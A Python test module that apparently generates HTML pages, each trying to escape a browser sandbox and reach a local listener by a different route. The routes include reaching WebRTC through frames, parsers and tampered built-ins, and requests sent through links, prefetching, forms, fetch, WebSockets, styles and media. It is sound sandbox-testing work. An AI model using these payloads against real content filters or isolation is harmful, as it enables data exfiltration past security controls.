"""Apps that try to reach the network: each by another way, with the ports of listeners in its text."""

from urllib.parse import quote

_RTC = (
    "function rtc(it) { const one = new it.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
    " one.createDataChannel('x'); one.createOffer().then(offer => one.setLocalDescription(offer)); }"
)


def _script(body: str) -> str:
    return f"<script>{_RTC} try {{ {body} }} catch (error) {{ }}</script>"


_INNER = _script("rtc(window)")
_QUOTED = _INNER.replace("&", "&amp;").replace('"', "&quot;")
#: The same as a text in a script.
_TEXT = "'<script>' + rtc + '; rtc(window)</' + 'script>'"

#: A window in which nobody has taken anything away: how to come by one, and what is then called.
_WINDOWS = {
    "own": _script("rtc(window)"),
    "old name": _script("rtc({RTCPeerConnection: webkitRTCPeerConnection})"),
    "frame": _script("const f = document.createElement('iframe'); document.documentElement.append(f); rtc(f.contentWindow)"),
    "frame by number": _script("document.documentElement.append(document.createElement('IFRAME')); rtc(window[0])"),
    "frame refused by the policy": _script(
        "const f = document.createElement('iframe'); f.src = 'https://x.invalid/'; document.documentElement.append(f); rtc(f.contentWindow)"
    ),
    "frame in the page": "<iframe></iframe>" + _script("rtc(frames[0])"),
    "frame with a document": f'<IFRAME srcdoc="{_QUOTED}"></IFRAME>',
    "frame with a document by script": "<body>"
    + _script(f"const f = document.createElement('iframe'); f.srcdoc = {_TEXT}; document.body.append(f)"),
    "frame with a script": f'<iframe src="javascript:{quote(_RTC + ";rtc(window)")}"></iframe>',
    "frame with data": f'<iframe src="data:text/html,{quote(_INNER)}"></iframe>',
    "frame with a blob": "<body>"
    + _script(
        f"const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([{_TEXT}], {{type: 'text/html'}}));"
        " document.body.append(f)"
    ),
    "frame in a shadow": f'<div><template shadowrootmode="closed"><iframe srcdoc="{_QUOTED}"></iframe></template></div>',
    "frame in a shadow by script": "<body>"
    + _script(
        "const host = document.createElement('div'), f = document.createElement('iframe'); document.body.append(host);"
        f" f.srcdoc = {_TEXT}; host.attachShadow({{mode: 'closed'}}).append(f)"
    ),
    "frame as text": "<body>" + _script(f"document.body.innerHTML = '<iframe></iframe>'; frames[0].document.write({_TEXT})"),
    "frame as text with a document": "<body>"
    + _script(f"document.body.innerHTML = '<ifRame\\tsrcdoc=\"' + ({_TEXT}).replaceAll('\"', '&quot;') + '\"></iframe>'"),
    "frame beside": "<body>" + _script("document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"' + document.title + '\">')"),
    "frame of a fragment": "<body>"
    + _script(
        "document.body.append(document.createRange().createContextualFragment('<iframe srcdoc=\"' + "
        f"({_TEXT}).replaceAll('\"', '&quot;') + '\"></iframe>'))"
    ),
    "frame and its script at once": "<body>"
    + _script(
        "const all = document.createDocumentFragment(), s = document.createElement('script'); s.textContent = 'rtc(window[0])';"
        " all.append(document.createElement('iframe'), s); document.body.append(all)"
    ),
    "frame written in pieces": f"<script>document.write('<ifr')</script>ame srcdoc=\"{_QUOTED}\"></iframe>",
    "frame written in two": _script(
        f"document.write('<ifr'); document.write('ame srcdoc=\"' + ({_TEXT}).replaceAll('\"', '&quot;') + '\"></ifr' + 'ame>')"
    ),
    "frame in a new document": _script(
        f"document.open(); document.write('<iframe srcdoc=\"' + ({_TEXT}).replaceAll('\"', '&quot;') + '\"></iframe>'); document.close()"
    ),
    "new document": _script("document.open(); document.close(); rtc(window)"),
    "frame of another kind of document": "<body>"
    + _script(
        "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe');"
        f" d.documentElement.setAttribute('srcdoc', {_TEXT}); document.body.append(d.documentElement)"
    ),
    "frame of XML": "<body>"
    + _script(
        "const d = new DOMParser().parseFromString('<x:iframe xmlns:x=\"http://www.w3.org/1999/xhtml\"/>', 'application/xml');"
        f" d.documentElement.setAttribute('srcdoc', {_TEXT}); document.body.append(d.documentElement)"
    ),
    "frame of an entity": "<body>"
    + _script(
        "const d = new DOMParser().parseFromString('<!DOCTYPE r [<!ENTITY e \"<iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'/>\">]>"
        f"<r>&e;</r>', 'application/xml'); d.documentElement.firstChild.setAttribute('srcdoc', {_TEXT});"
        " document.body.append(d.documentElement)"
    ),
    "frame of XML later": "<body>"
    + _script(
        "const d = new DOMParser().parseFromString('<r xmlns:x=\"http://www.w3.org/1999/xhtml\"/>', 'application/xml');"
        " d.documentElement.innerHTML = '<x:iframe/>';"
        f" d.documentElement.firstChild.setAttribute('srcdoc', {_TEXT}); document.body.append(d.documentElement)"
    ),
    "frame of a transformation": "<body>"
    + _script(
        "const p = new XSLTProcessor(), read = text => new DOMParser().parseFromString(text, 'application/xml');"
        " p.importStylesheet(read('<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
        '<xsl:output method="html"/><xsl:template match="/"><xsl:element name="iframe"/></xsl:template></xsl:stylesheet>\'));'
        f" const made = p.transformToFragment(read('<a/>'), document); made.firstChild.srcdoc = {_TEXT};"
        " document.body.append(made)"
    ),
    "frame of one's own": "<body>"
    + _script(
        "class Own extends HTMLIFrameElement {} customElements.define('own-frame', Own, {extends: 'iframe'});"
        f" const f = new Own(); f.srcdoc = {_TEXT}; document.body.append(f)"
    ),
    "frame of one's own, said twice": "<body>"
    + _script(
        "class Own extends HTMLIFrameElement {} let asked = 0; customElements.define('own-frame', Own,"
        " {get extends() { return asked++ ? 'iframe' : 'p'; }});"
        f" const f = new Own(); f.srcdoc = {_TEXT}; document.body.append(f)"
    ),
    "frame with a prefix": "<body>"
    + _script(
        "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'q:iframe');"
        f" f.setAttribute('srcdoc', {_TEXT}); document.body.append(f)"
    ),
    "name that changes": "<body>"
    + _script(
        "let asked = 0; const f = document.createElement({toString: () => asked++ ? 'div' : 'iframe'});"
        f" f.srcdoc = {_TEXT}; document.body.append(f)"
    ),
    "text that changes": "<body>"
    + _script(
        "let asked = 0; document.body.innerHTML = {toString: () => asked++ ? '<p>' :"
        f" '<iframe srcdoc=\"' + ({_TEXT}).replaceAll('\"', '&quot;') + '\"></iframe>'}}"
    ),
    "built-ins changed": "<body>"
    + _script(
        "String.prototype.indexOf = () => -1; String.prototype.toLowerCase = () => 'p'; Reflect.apply = () => 'p';"
        " RegExp.prototype.exec = () => null; Array.prototype[Symbol.iterator] = function* () { yield 'iframe'; };"
        " Function.prototype.call = Function.prototype.apply = () => {}; Object.prototype.iframe = undefined;"
        f" const f = document.createElement('iframe'); f.srcdoc = {_TEXT}; document.body.append(f);"
        f" document.body.innerHTML += '<iframe srcdoc=\"' + ({_TEXT}).replaceAll('\"', '&quot;') + '\"></iframe>'"
    ),
    "copy of a template": "<body>"
    + _script(
        f"const t = document.createElement('template'); t.innerHTML = '<iframe srcdoc=\"' + ({_TEXT}).replaceAll('\"', '&quot;') +"
        " '\"></iframe>'; document.body.append(t.content.cloneNode(true))"
    ),
    "editing": "<body contenteditable>"
    + _script(
        "document.body.focus(); document.execCommand('insertHTML', false, '<iframe srcdoc=\"' +"
        f" ({_TEXT}).replaceAll('\"', '&quot;') + '\"></iframe>')"
    ),
    "newer ways": "<body>"
    + _script(
        f"const html = '<iframe srcdoc=\"' + ({_TEXT}).replaceAll('\"', '&quot;') + '\"></iframe>';"
        " try { document.body.setHTMLUnsafe(html) } catch (error) { }"
        " try { document.body.append(Document.parseHTMLUnsafe(html).body.firstChild) } catch (error) { }"
        " try { document.body.appendHTMLUnsafe(html) } catch (error) { }"
        " try { const to = document.body.streamAppendHTMLUnsafe().getWriter(); to.write(html.slice(0, 4)); to.write(html.slice(4)) }"
        " catch (error) { }"
    ),
    "object": '<object data="about:blank" type="text/html"></object><embed src="about:blank" type="text/html">'
    + _script("setTimeout(() => rtc(frames[0]), 200)"),
    "frameset": f'<html><frameset><frame src="javascript:{quote(_RTC + ";rtc(window)")}"></frameset></html>',
    "script as an address": _script(f"location.href = 'javascript:' + encodeURIComponent(JSON.stringify({_TEXT}))"),
    "link with a script": '<body><a id="a">x</a>'
    + _script(f"a.href = 'javascript:' + encodeURIComponent(JSON.stringify({_TEXT})); a.click()"),
    "blob as a page": _script(f"location = URL.createObjectURL(new Blob([{_TEXT}], {{type: 'text/html'}}))"),
    "data as a page": _script(f"location = 'data:text/html,' + encodeURIComponent({_TEXT})"),
    "window": _script("rtc(window.open('about:blank'))"),
    "window in its own place": _script("const it = window.open('about:blank', '_self'); setTimeout(() => rtc(it), 200)"),
    "prototypes": _script(
        "const seen = new Set(), all = [window]; while (all.length) { const it = all.pop(); if (!it || seen.has(it)) continue;"
        " seen.add(it); for (const name of Reflect.ownKeys(it)) { try { const value = it[name];"
        " if (/RTCPeer/.test(String(value?.name))) rtc({RTCPeerConnection: value});"
        " if (seen.size < 5000 && /function|object/.test(typeof value)) all.push(value, Object.getPrototypeOf(value)); }"
        " catch (error) { } } }"
    ),
}  # fmt: skip
#: Other ways out. ``HTTP`` is the address of a listener.
_OTHERS = {
    "announced connection": '<link rel="preconnect" href="HTTP"><LINK/rel=preconnect href="HTTP">',
    "announced connection by script": _script(
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'HTTP'; document.head.append(l)"
    ),
    "announced connection as text": "<body>" + _script("document.body.innerHTML = '<link rel=\"preconnect\" href=\"HTTP\">'"),
    "announced connection, made safe": "<body>"
    + _script(
        "document.body.setHTML('<link rel=\"preconnect\" href=\"HTTP\">',"
        " {sanitizer: new Sanitizer({elements: ['link'], attributes: ['rel', 'href']})})"
    ),
    "announced pages": '<link rel="prefetch" href="HTTP/a"><link rel="preload" as="image" href="HTTP/b">'
    '<link rel="modulepreload" href="HTTP/c"><link rel="stylesheet" href="HTTP/d"><link rel="icon" href="HTTP/e">',
    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["HTTP/a"]}],'
    ' "prerender": [{"source": "list", "urls": ["HTTP/b"]}]}</script>',
    "going elsewhere": _script("location = 'HTTP/secret'"),
    "refresh": '<meta http-equiv="refresh" content="0;url=HTTP/secret">',
    "form": '<body><form action="HTTP/a" method="post"><input name="secret"></form>' + _script("document.forms[0].submit()"),
    "links": '<body><a id="a" href="HTTP/a" ping="HTTP/b">x</a><a id="b" href="HTTP/c" target="_top">x</a>'
    '<a id="c" href="HTTP/d" target="_blank">x</a>' + _script("c.click(); b.click(); a.click()"),
    "requests": _script(
        "fetch('HTTP/a').catch(() => 0); navigator.sendBeacon('HTTP/b'); new EventSource('HTTP/c'); new Image().src = 'HTTP/d';"
        " new WebSocket('HTTP/e'.replace('http', 'ws'))"
    ),
    "worker": _script("new Worker(URL.createObjectURL(new Blob(['fetch(\"HTTP/a\")'])))"),
    "module": _script("import('HTTP/a').catch(() => 0)"),
    "transport": _script("new WebTransport('https://127.0.0.1:UDP/')"),
    "styles": "<style>@import url(HTTP/a); body { background: url(HTTP/b); cursor: url(HTTP/c), auto }"
    " @font-face { font-family: x; src: url(HTTP/d) } * { font-family: x }</style>text",
    "media": '<video src="HTTP/a" poster="HTTP/b" autoplay></video><audio src="HTTP/c"></audio><img srcset="HTTP/d 1x">'
    '<svg><image href="HTTP/e"/><use href="HTTP/f#a"/></svg><input type="image" src="HTTP/g"><base href="HTTP/"><img src="h">',
    "report": "<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'none'; report-uri HTTP/a\">"
    '<img src="data:image/png;base64,AA">',
}  # fmt: skip
ATTACKS = _WINDOWS | _OTHERS
#: Those that make the browser go to another page. It connects before it asks whether that is allowed.
NAVIGATIONS = {"going elsewhere", "refresh", "links"}


def attack_page(name: str, udp: int, tcp: int) -> bytes:
    """The page of one attack, with the ports of its listeners."""
    page = f"<!doctype html><meta charset=utf-8><title>{name}</title>{ATTACKS[name]}"
    return page.replace("UDP", str(udp)).replace("HTTP", f"http://127.0.0.1:{tcp}").encode()
